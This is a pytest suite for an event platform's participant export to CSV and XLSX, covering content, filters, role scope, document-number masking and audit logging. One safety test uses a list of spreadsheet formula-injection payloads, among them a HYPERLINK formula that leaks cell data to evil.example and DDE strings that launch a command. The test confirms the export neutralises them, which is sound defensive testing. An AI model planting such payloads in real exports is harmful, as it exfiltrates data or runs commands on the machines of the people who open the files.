"""The participants export as CSV and XLSX: content, scope, masking, formula injection, audit."""

import csv
import html
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.audit.models import AuditEntry
from app.events.models import EventStatus
from app.registrations.models import Category, Circle, DocumentType, RegistrationStatus, Sector
from app.registrations.service import document_hash
from tests.factories import (
    AdminFactory,
    EventFactory,
    PersonFactory,
    RegistrationFactory,
    UserFactory,
    coordinator,
    organiser,
    press_officer,
)
from tests.support import settle

COLUMNS = [
    "given_name",
    "family_name",
    "given_name_native",
    "family_name_native",
    "email",
    "organisation",
    "position",
    "sector",
    "delegation",
    "circle",
    "category",
    "status",
    "languages",
    "dietary_needs",
    "accessibility_needs",
    "doc_type",
    "doc_number_masked",
    "created_at",
]
# The XLSX is for people: its headings are words, in the requester's language (English here).
HEADINGS = [
    "Given name",
    "Family name",
    "Given name (native script)",
    "Family name (native script)",
    "E-mail address",
    "Organisation",
    "Position",
    "Sector",
    "Delegation",
    "Circle",
    "Category",
    "Status",
    "Languages",
    "Dietary needs",
    "Accessibility needs",
    "Document type",
    "Document number (masked)",
    "Registration date",
]
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _with_document(registration, number, doc_type=DocumentType.PASSPORT):
    """A travel document as the service stores it: only the hash and last four in clear."""
    registration.doc_type = doc_type
    registration.doc_number = "v1:t2:not-a-real-ciphertext"
    registration.doc_number_hash = document_hash(number)
    registration.doc_number_hint = number[-4:]
    return registration


def _csv(response):
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def both_sides(db, roundtable):
    """Two participants on each side, the visiting side's data distinctive enough to spot a leak."""
    event, host, visiting = roundtable
    ani = RegistrationFactory(
        delegation=host,
        person=PersonFactory(
            email="ani@example.am",
            given_name="Ani",
            family_name="Petrosyan",
            given_name_native="Անի",
            family_name_native="Պետրոսյան",
            organisation="Kamurj",
            position="Director",
            sector=Sector.CIVIL_SOCIETY,
        ),
        circle=Circle.CORE,
        category=Category.EXPERT,
        status=RegistrationStatus.CONFIRMED,
        languages="hy,en",
        dietary_needs="Vegetarian",
        created_at=datetime(2026, 1, 10, 8, 30, tzinfo=UTC),
    )
    _with_document(ani, "AM1234567")
    RegistrationFactory(delegation=host, person=PersonFactory(given_name="Aram", family_name="Sargsyan"))
    aysel = RegistrationFactory(
        delegation=visiting,
        person=PersonFactory(email="aysel@example.az", given_name="Aysel", family_name="Mammadova", family_name_native="Məmmədova"),
        status=RegistrationStatus.CONFIRMED,
    )
    _with_document(aysel, "C09876543")
    RegistrationFactory(delegation=visiting, person=PersonFactory(given_name="İlqar", family_name="Şükürov"))
    return event, host, visiting


# --- content -------------------------------------------------------------------------------------


def test_csv_export_for_organiser_has_every_participant_with_bom_and_headers(client, login, db, both_sides):
    event, host, visiting = both_sides
    login(organiser(event))
    settle(db)

    r = client.get(f"/events/{event.id}/participants.csv")

    assert r.status_code == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"] == f'attachment; filename="participants-event-{event.id}.csv"'
    assert r.headers["cache-control"] == "no-store"
    rows = _csv(r)
    assert rows[0] == COLUMNS
    assert [row[1] for row in rows[1:]] == ["Mammadova", "Petrosyan", "Sargsyan", "Şükürov"]
    ani = rows[2]
    assert ani == [
        "Ani", "Petrosyan", "Անի", "Պետրոսյան", "ani@example.am", "Kamurj", "Director", "civil_society",
        "Armenian delegation", "core", "expert", "confirmed", "hy,en", "Vegetarian", "", "passport",
        "•••••4567", "2026-01-10 12:30",  # created, in the event's time zone (Yerevan, UTC+4)
    ]
    assert rows[1][4] == "aysel@example.az" and rows[1][8] == "Azerbaijani delegation"


def test_xlsx_export_has_the_same_rows_as_strings(client, login, db, both_sides):
    event, host, visiting = both_sides
    login(organiser(event))
    settle(db)

    r = client.get(f"/events/{event.id}/participants.xlsx")

    assert r.status_code == 200
    assert r.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert r.headers["content-disposition"] == f'attachment; filename="participants-event-{event.id}.xlsx"'
    sheet, rows = _xlsx(r)
    assert sheet.title == "Participants"
    assert rows[0] == HEADINGS
    assert [row[1] for row in rows[1:]] == ["Mammadova", "Petrosyan", "Sargsyan", "Şükürov"]
    assert rows[2][:4] == ["Ani", "Petrosyan", "Անի", "Պետրոսյան"]
    assert rows[2][7:12] == ["Civil society", "Armenian delegation", "Core", "Expert", "Confirmed"]
    assert rows[2][15:17] == ["Passport", "•••••4567"]
    assert rows[2][17] == datetime(2026, 1, 10, 12, 30)
    assert sheet.freeze_panes == "A2"


def test_export_applies_the_list_filters(client, login, db, both_sides):
    event, host, visiting = both_sides
    login(organiser(event))
    settle(db)

    by_status = _csv(client.get(f"/events/{event.id}/participants.csv", params={"status": "confirmed"}))
    by_delegation = _csv(client.get(f"/events/{event.id}/participants.csv", params={"delegation_id": host.id}))
    by_text = _csv(client.get(f"/events/{event.id}/participants.csv", params={"q": "məmməd"}))
    by_circle = _csv(client.get(f"/events/{event.id}/participants.csv", params={"circle": "core", "category": "expert"}))
    _, xlsx_rows = _xlsx(client.get(f"/events/{event.id}/participants.xlsx", params={"status": "confirmed", "sort": "organisation"}))

    assert [row[1] for row in by_status[1:]] == ["Mammadova", "Petrosyan"]
    assert [row[1] for row in by_delegation[1:]] == ["Petrosyan", "Sargsyan"]
    assert [row[1] for row in by_text[1:]] == ["Mammadova"]
    assert [row[1] for row in by_circle[1:]] == ["Petrosyan"]
    assert [row[1] for row in xlsx_rows[1:]] == ["Mammadova", "Petrosyan"]


def test_export_with_a_bad_filter_is_refused_with_its_name(client, login, db, both_sides):
    event, _, _ = both_sides
    login(organiser(event))
    settle(db)

    r = client.get(f"/events/{event.id}/participants.csv", params={"status": "bogus"})

    assert r.status_code == 422
    assert "The filter “status” is not valid" in r.text


def test_export_of_an_event_without_participants_is_the_header_alone(client, login, db, roundtable):
    event, _, _ = roundtable
    login(organiser(event))
    settle(db)

    rows = _csv(client.get(f"/events/{event.id}/participants.csv"))
    _, xlsx_rows = _xlsx(client.get(f"/events/{event.id}/participants.xlsx"))

    assert rows == [COLUMNS]
    assert xlsx_rows == [HEADINGS]


# --- safety --------------------------------------------------------------------------------------


def test_export_neutralises_formula_injection_in_csv_and_xlsx(client, login, db, roundtable):
    event, host, _ = roundtable
    for i, payload in enumerate(PAYLOADS):
        RegistrationFactory(
            delegation=host,
            person=PersonFactory(given_name=payload, family_name=f"Z{i}", organisation=payload, position="=1+1"),
            dietary_needs=payload,
        )
    login(organiser(event))
    settle(db)

    rows = _csv(client.get(f"/events/{event.id}/participants.csv"))
    xlsx = client.get(f"/events/{event.id}/participants.xlsx")
    sheet, xlsx_rows = _xlsx(xlsx)

    assert [row[0] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [row[5] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [row[13] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert {row[6] for row in rows[1:]} == {"'=1+1"}
    assert [row[0] for row in xlsx_rows[1:]] == ["'" + p for p in PAYLOADS]
    assert {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row[:17] if cell.value is not None} == {"s"}
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_export_shows_masked_document_numbers_only(client, login, db, both_sides):
    event, _, _ = both_sides
    login(AdminFactory())
    settle(db)

    csv_text = client.get(f"/events/{event.id}/participants.csv").content.decode("utf-8-sig")
    xlsx = client.get(f"/events/{event.id}/participants.xlsx").content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        xlsx_text = html.unescape("".join(archive.read(name).decode() for name in archive.namelist()))

    for text in (csv_text, xlsx_text):
        assert "•••••4567" in text and "•••••6543" in text
        assert "AM1234567" not in text and "C09876543" not in text
        assert "not-a-real-ciphertext" not in text


# --- scope ---------------------------------------------------------------------------------------


def test_coordinator_export_shows_only_their_delegation(client, login, db, both_sides):
    event, host, visiting = both_sides
    login(coordinator(host))
    settle(db)

    rows = _csv(client.get(f"/events/{event.id}/participants.csv"))
    _, xlsx_rows = _xlsx(client.get(f"/events/{event.id}/participants.xlsx"))
    asked_for_other = _csv(client.get(f"/events/{event.id}/participants.csv", params={"delegation_id": visiting.id}))

    assert [row[1] for row in rows[1:]] == ["Petrosyan", "Sargsyan"]
    assert [row[1] for row in xlsx_rows[1:]] == ["Petrosyan", "Sargsyan"]
    assert asked_for_other == [COLUMNS]
    text = "".join(",".join(row) for row in rows)
    assert "Mammadova" not in text and "aysel@example.az" not in text and "•••••6543" not in text


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_press_officer_and_delegate_are_refused(client, login, db, both_sides, suffix):
    event, host, _ = both_sides
    delegate = UserFactory()
    RegistrationFactory(delegation=host, person=PersonFactory(user=delegate))
    press = press_officer(event)
    settle(db)

    answers = []
    for user in (press, delegate):
        login(user)
        r = client.get(f"/events/{event.id}/participants.{suffix}")
        answers.append((r.status_code, "Petrosyan" in r.text))

    assert answers == [(403, False), (403, False)]


def test_export_of_an_invisible_event_is_404_and_anonymous_must_sign_in(client, login, db):
    draft = EventFactory(status=EventStatus.DRAFT)
    RegistrationFactory(delegation__event=draft)
    settle(db)

    anonymous = client.get(f"/events/{draft.id}/participants.csv")
    login(organiser(EventFactory()))
    stranger = client.get(f"/events/{draft.id}/participants.csv")

    assert anonymous.status_code == 303
    assert anonymous.headers["location"] == f"/login?next=/events/{draft.id}/participants.csv"
    assert stranger.status_code == 404


def test_export_works_with_a_bearer_token(client, api, db, both_sides):
    event, host, _ = both_sides
    api(coordinator(host))
    settle(db)

    r = client.get(f"/events/{event.id}/participants.csv")

    assert r.status_code == 200
    assert [row[1] for row in _csv(r)[1:]] == ["Petrosyan", "Sargsyan"]


# --- audit and queries ---------------------------------------------------------------------------


def test_export_is_written_to_the_audit_log(client, login, db, both_sides):
    event, host, _ = both_sides
    user = login(organiser(event))
    settle(db)

    client.get(f"/events/{event.id}/participants.csv", params={"status": "confirmed", "q": "Ani"})
    client.get(f"/events/{event.id}/participants.xlsx")

    entries = db.scalars(select(AuditEntry).where(AuditEntry.action == "participants.export").order_by(AuditEntry.id)).all()
    assert [(e.actor_id, e.object_type, e.object_id, e.event_id) for e in entries] == [
        (user.id, "event", event.id, event.id),
        (user.id, "event", event.id, event.id),
    ]
    assert [e.details for e in entries] == [
        {"format": "csv", "count": 1, "filters": ["q", "status"]},
        {"format": "xlsx", "count": 4, "filters": []},
    ]
    assert "Ani" not in str(entries[0].details)  # the search text is not kept


@pytest.mark.parametrize("n", [1, 3])
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_query_count_is_constant(client, login, db, count_queries, roundtable, n, suffix):
    event, host, visiting = roundtable
    for _ in range(n):
        RegistrationFactory(delegation=host)
        RegistrationFactory(delegation=visiting)
    login(organiser(event))
    url = f"/events/{event.id}/participants.{suffix}"
    settle(db)

    with count_queries() as count:
        r = client.get(url)

    rows = _csv(r) if suffix == "csv" else _xlsx(r)[1]
    assert len(rows) == 2 * n + 1
    assert count() == 5  # sign-in (1 query); event; count, rows; audit entry
